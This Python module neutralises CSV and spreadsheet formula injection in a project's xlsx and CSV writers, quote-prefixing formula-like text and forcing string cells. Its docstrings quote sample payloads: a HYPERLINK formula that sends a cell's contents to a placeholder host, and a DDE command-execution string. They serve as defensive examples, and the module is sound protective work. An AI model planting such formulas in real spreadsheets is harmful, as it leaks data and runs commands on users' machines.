"""Spreadsheet cells and CSV fields written from data: text stays text, never a formula.

Document text reaches spreadsheets: an agency written ``=HYPERLINK("http://x.example/?"&B3,"点击")&"局"``
or a task title ``=1+2…`` in a plan, a value in a corrections file. Excel and LibreOffice run a cell
that begins with ``=`` as a formula, and a CSV field that begins with ``= + - @`` (or a tab or carriage
return before one) as one too (CSV or formula injection: links that send the sheet's cells away,
``=cmd|' /C calc'!A0`` …). Every writer of policykg's workbooks and CSV files goes through this module,
as the OWASP guidance on CSV injection recommends:

- **xlsx** (`append_row`, `set_text`): a string is always written as a string cell (openpyxl's
  ``data_type`` ``"s"``; openpyxl would make ``=…`` a formula cell), and one that begins with a
  character in `TRIGGERS` carries Excel's quote prefix, so editing the cell in Excel keeps it text;
- **CSV/TSV** (`csv_field`, `csv_row`, `csv_frame`): such a field is written with a ``'`` before it,
  which spreadsheets show and never evaluate. A plain number written as text (``-3``, ``+1.5``,
  ``-2e3``) is left alone: it is a number to a spreadsheet, not a formula, and query results hold many.

`csv_unescape` undoes `csv_field`, for the review CSV files read back as corrections.
"""

from __future__ import annotations

import re
from collections.abc import Iterable
from typing import Any

__all__ = ["TRIGGERS", "is_formula_like", "csv_field", "csv_row", "csv_frame", "csv_unescape", "set_text",
           "append_row"]

# The first characters a spreadsheet reads as the start of a formula (OWASP: = + - @, tab, CR).
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


def is_formula_like(value: Any) -> bool:
    """Whether ``value`` is text a spreadsheet could take for a formula (and not a plain number).

    Examples
    --------
    >>> [is_formula_like(v) for v in ("=1+2", "+86 23", "-3.5", "@SUM(A1)", "\\t=1", "区科技局", 5)]
    [True, True, False, True, True, False, False]
    """
    return isinstance(value, str) and value.startswith(TRIGGERS) and not _NUMBER.fullmatch(value)


def csv_field(value: Any) -> Any:
    """A value for a CSV or TSV field: formula-like text gets a ``'`` in front, anything else is as is.

    Examples
    --------
    >>> csv_field('=HYPERLINK("http://x.example/?"&B3,"点击")&"局"')
    '\\'=HYPERLINK("http://x.example/?"&B3,"点击")&"局"'
    >>> csv_field("-1"), csv_field(0.5), csv_field("区科技局")
    ('-1', 0.5, '区科技局')
    """
    return "'" + value if is_formula_like(value) else value


def csv_row(values: Iterable[Any]) -> list[Any]:
    """`csv_field` of every value of a row (for ``csv.writer.writerow``).

    Examples
    --------
    >>> csv_row(["=1+2", 3, None])
    ["'=1+2", 3, None]
    """
    return [csv_field(v) for v in values]


def csv_unescape(value: str) -> str:
    """The text `csv_field` was given (a ``'`` before formula-like text dropped).

    Examples
    --------
    >>> csv_unescape("'=1+2"), csv_unescape("'区科技局"), csv_unescape("-1")
    ('=1+2', "'区科技局", '-1')
    """
    if value.startswith("'") and is_formula_like(value[1:]):
        return value[1:]
    return value


def csv_frame(frame: Any) -> Any:
    """A pandas DataFrame with `csv_field` applied to its text: the cells of object columns, the index
    and the column names (``to_csv`` then writes it safely). Numbers are untouched.

    Examples
    --------
    >>> import pandas as pd
    >>> f = pd.DataFrame({"name": ["=1+2", "区科技局"], "degree": [-1.0, 2.0]}, index=["@x", "b"])
    >>> print(csv_frame(f).to_csv(lineterminator="\\n"), end="")
    ,name,degree
    '@x,'=1+2,-1.0
    b,区科技局,2.0
    """
    from pandas.api.types import is_numeric_dtype

    out = frame.copy()
    for col in out.columns:
        if not is_numeric_dtype(out[col].dtype):
            out[col] = out[col].map(csv_field)
    out.index = out.index.map(csv_field)
    out.columns = out.columns.map(csv_field)
    return out


def set_text(cell: Any, value: Any) -> Any:
    """Set an openpyxl cell's value; text is kept as text (never a formula), with Excel's quote prefix
    when it begins like one. Returns the cell.

    Examples
    --------
    >>> import openpyxl
    >>> ws = openpyxl.Workbook().active
    >>> c = set_text(ws["A1"], "=1+2")
    >>> c.value, c.data_type, c.quotePrefix
    ('=1+2', 's', True)
    """
    cell.value = value
    if isinstance(value, str):
        cell.data_type = "s"
        if is_formula_like(value):
            cell.quotePrefix = True
    return cell


def append_row(ws: Any, values: Iterable[Any]) -> None:
    """``ws.append(values)`` for an openpyxl worksheet, with every text cell kept as text (`set_text`).

    Examples
    --------
    >>> import openpyxl
    >>> ws = openpyxl.Workbook().active
    >>> append_row(ws, ["=HYPERLINK(\\"http://x.example\\")", 2.5, None])
    >>> [(c.value, c.data_type) for c in ws[1]]
    [('=HYPERLINK("http://x.example")', 's'), (2.5, 'n'), (None, 'n')]
    """
    values = list(values)
    ws.append(values)
    row = ws.max_row
    for i, value in enumerate(values, start=1):
        if isinstance(value, str):
            set_text(ws.cell(row, i), value)
